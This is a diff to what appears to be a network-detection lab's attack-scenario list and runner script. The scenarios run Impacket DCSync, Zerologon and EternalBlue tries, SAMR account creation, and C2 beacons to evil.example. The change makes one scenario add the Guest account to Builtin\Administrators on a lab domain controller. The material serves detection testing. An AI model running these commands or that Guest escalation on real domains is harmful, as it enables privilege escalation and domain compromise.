@@ -43,7 +43,7 @@ secretsdump_dcsync    client 31 attack T1003.006                            Impa
 smb_sweep             client 32 attack T1046                                Port-445 sweep of 64 addresses plus the two servers
 zerologon             client 46 attack T1210                                Zerologon's netlogon tries against the DC (NetrServerAuthenticate3 with a zero credential, Impacket's nrpc as the public testers send them), and one with a random credential | Samba is patched: it refuses every try; scored on the client's requests
 ms17_010_scan         client 45 attack T1210                                nmap's smb-vuln-ms17-010 and smb-double-pulsar-backdoor against the file server, then EternalBlue's transaction pair (eternalblue_try.py): the SMB1 check, DoublePulsar ping and exploit trigger of WannaCry-style tooling | Samba is not vulnerable: scored on the client's requests
-account_manipulation  client 47 attack T1136,T1098,T1098.007              Accounts made and changed over SAMR against the DC: Impacket addcomputer.py -method SAMR (a machine account and its password), then that account put into Builtin\Administrators (samr_group_join.py) | Samba refuses the join (its Builtin members are not machine accounts); scored on the client's requests
+account_manipulation  client 47 attack T1136,T1098,T1098.007              Accounts made and changed over SAMR against the DC: Impacket addcomputer.py -method SAMR (a machine account and its password), then Guest put into Builtin\Administrators (samr_group_join.py)
 c2_http_v4            client 33 attack T1071.001                            HTTP beacons (GET, POST) to the C2 address
 c2_https_sni_v4       client 34 attack T1071.001,T1573                      HTTPS beacon to the C2 address, SNI api.evil.example
 c2_dns                client 35 attack T1071.004                            DNS beacons: A and TXT queries under evil.example at the resolver
@@ -141,7 +141,7 @@ sc_account_manipulation() {
 	run addcomputer /usr/bin/python3 "$IMP/addcomputer.py" -method SAMR -computer-name 'XHCOV1$' \
 		-computer-pass 'Xh-Cov-Pc1!' -dc-ip "$LAB_DC_IP4" "$DCLAB_DOMAIN/$DCLAB_ADMIN:$DCLAB_PASS"
 	run join /usr/bin/python3 "$SCEN_HERE/samr_group_join.py" "$LAB_DC_IP4" "$DCLAB_DOMAIN" \
-		"$DCLAB_ADMIN" "$DCLAB_PASS" 'XHCOV1$'
+		"$DCLAB_ADMIN" "$DCLAB_PASS" Guest
 }
 sc_ms17_010_scan() {
 	run nmap nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-double-pulsar-backdoor \
